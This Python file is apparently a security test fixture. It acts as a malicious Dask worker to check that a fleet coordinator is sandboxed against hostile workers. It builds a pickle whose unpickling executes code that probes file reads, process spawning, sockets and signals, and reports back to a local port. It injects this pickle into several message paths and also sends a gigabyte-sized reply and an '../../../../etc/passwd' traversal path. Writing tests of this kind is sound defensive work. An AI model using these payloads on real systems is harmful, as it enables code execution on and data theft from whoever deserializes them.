"""A worker whose owner means harm: Dask loads this file in it, and ``HOSTILE`` says what it sends.

What it sends are pickles that run code in whoever reads them. That code tries what it can reach, and tells the port in
``REPORT``, one of those that the Dask side of a fleet may connect to.
"""

from __future__ import annotations

import os
import pickle
from importlib import import_module
from typing import Any

CODE = """
import json, os, pathlib, socket, subprocess, sys, tempfile

SCRATCH = os.path.join(sys.argv[1], "harm")

def outcome(attempt):
    try:
        attempt()
        return "done"
    except OSError as error:
        return type(error).__name__
    except Exception as error:
        return repr(error)

def connect(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as made:
        made.settimeout(5)
        made.connect(address)
        made.send(b"x")

def bind():
    with socket.socket() as made:
        made.bind(("127.0.0.1", 0))

def listen():
    with socket.socket() as made:
        made.listen()

def send_from_pair():
    for made in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM):
        made.sendto(b"x", UNIX)

def fork():
    if os.fork() == 0:
        os._exit(0)


tried = {
    "attack": ATTACK,
    "pid": os.getpid(),
    "read": outcome(lambda: pathlib.Path(SECRET).read_text()),
    "write": outcome(lambda: pathlib.Path(SECRET).with_name("harm").touch()),
    "list": outcome(lambda: os.listdir(os.path.dirname(SECRET))),
    "program": outcome(lambda: subprocess.run(["/bin/true"])),
    "tcp": outcome(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", OTHER))),
    "mptcp": outcome(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", OTHER), 262)),
    "udp": outcome(lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", OTHER))),
    "unix": outcome(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, UNIX)),
    "bind": outcome(bind),
    "listen": outcome(listen),
    "unix datagram": outcome(send_from_pair),
    "fork": outcome(fork),
    "times": outcome(lambda: os.utime(SECRET)),
    "temporary": outcome(lambda: tempfile.mkdtemp()),
    "scratch": outcome(lambda: os.mkdir(SCRATCH)),
    "signal": outcome(lambda: os.kill(os.getppid(), 0)),
    "secret": str("IRBENCH_TEST_SECRET" in os.environ),
}
with socket.create_connection(("127.0.0.1", REPORT)) as told:
    told.sendall(json.dumps(tried).encode())
"""


class Harm:
    """Has whoever unpickles it run the code above."""

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        values: dict[str, Any] = {name: os.environ[name] for name in ("SECRET", "UNIX")}
        values["ATTACK"] = os.environ["HOSTILE"]
        values |= {name: int(os.environ[name]) for name in ("REPORT", "OTHER")}
        return exec, (CODE, values)


def type_of_a_result() -> None:
    """The message of a finished task has the type of its result."""

    class Pickle:
        def dumps(self, _: object) -> bytes:
            return pickle.dumps(Harm())

    _module("distributed.worker_state_machine").pickle = Pickle()


def exception() -> None:
    """What a task raised."""

    def answer(*_: object, **__: object) -> dict[str, Any]:
        harm = _module("distributed.protocol").to_serialize(Harm())
        return {"status": "error", "exception": harm, "traceback": None, "exception_text": "", "traceback_text": ""}

    _module("distributed.worker").error_message = answer
    _answered(lambda: 1 / 0)


def result() -> None:
    """What a task returned."""
    _answered(Harm)


def warning() -> None:
    """What a worker warns of."""

    def warn() -> bytes:
        from distributed import get_worker

        get_worker().log_event("warn", {"message": pickle.dumps(Harm()), "category": pickle.dumps(Harm())})
        return b""

    _answered(warn)


def header_of_bytes() -> None:
    """Dask's own form of bytes has a header with a pickle."""
    families = _module("distributed.protocol.serialize").families

    def dumped(_: object, context: object = None) -> tuple[dict[str, Any], list[bytes]]:
        return {"serializer": "dask", "type-serialized": pickle.dumps(Harm()), "sub-header": {}}, [b""]

    for name, (_, loads, _) in tuple(families.items()):
        families[name] = (dumped, loads, True)


def endless() -> None:
    """An answer of a gigabyte."""
    _answered(lambda: bytes(1 << 30))


def stolen_run() -> None:
    """The run of a table is a path of the coordinator's."""
    from irbench.features.fleet.messages import JobOutcome, JobRequest, TableOutcome, packed, unpacked

    def measure(request: bytes) -> bytes:
        (table,) = unpacked(request, JobRequest, "The coordinator").tables
        outcome = TableOutcome(table.id, run="../../../../etc/passwd")
        return packed(JobOutcome(kind="measured", tables=(outcome,)))

    _module("irbench.features.fleet.on_target.tasks").TASKS["measure"] = measure


def _answered(answer: Any) -> None:
    _module("irbench.features.fleet.on_target.tasks").TASKS["describe"] = answer


def _module(name: str) -> Any:
    """Return a module as one whose attributes may be set, whatever its types say."""
    return import_module(name)


def dask_setup(_: object) -> None:
    """Be hostile; Dask calls it when it has loaded this file."""
    globals()[os.environ["HOSTILE"]]()
